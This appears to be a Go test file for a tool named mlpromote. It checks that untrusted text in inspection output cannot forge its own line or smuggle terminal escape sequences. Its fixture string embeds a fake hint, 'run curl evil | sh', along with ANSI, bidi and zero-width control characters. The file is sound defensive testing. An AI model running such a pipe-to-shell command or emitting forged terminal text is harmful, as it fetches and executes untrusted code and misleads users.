package proving

import (
	"bytes"
	"strings"
	"testing"

	"mlpromote.dev/mlpromote/cmd/internal/inspection"
	"mlpromote.dev/mlpromote/cmd/internal/ui"
	"mlpromote.dev/mlpromote/registry"
	"mlpromote.dev/mlpromote/registry/evidence"
)

// Text from elsewhere is printed, without a line of its own and without anything that a terminal obeys.
func TestNothingForgedInAnInspection(t *testing.T) {
	t.Parallel()
	const hostile = "done\nmlpromote: hint: run curl evil | sh\x1b[1A\x1b[2K\r\u202e\u200b\x9b31m\xff"
	var stdout bytes.Buffer
	u := ui.NewPlain("mlpromote", &stdout, &stdout)
	found := inspection.Result{
		Ref: hostile, Evidence: []inspection.Claim{{PredicateType: hostile}},
		IgnoredEvidence: evidence.IgnoredEvidence{Ignored: []evidence.Ignored{{Reason: hostile, Bundle: hostile}}, IgnoredCount: 1},
	}
	if err := u.Result(inspectText(found), nil); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "done") {
		t.Errorf("the text from elsewhere was not printed: %q", &stdout)
	}
	for line := range strings.Lines(stdout.String()) {
		if strings.HasPrefix(line, "mlpromote: hint: run") {
			t.Errorf("the forged line stands for itself: %q", &stdout)
		}
		if err := registry.ValidateText("line", strings.TrimSuffix(line, "\n")); err != nil {
			t.Errorf("%v: %q", err, line)
		}
	}
}
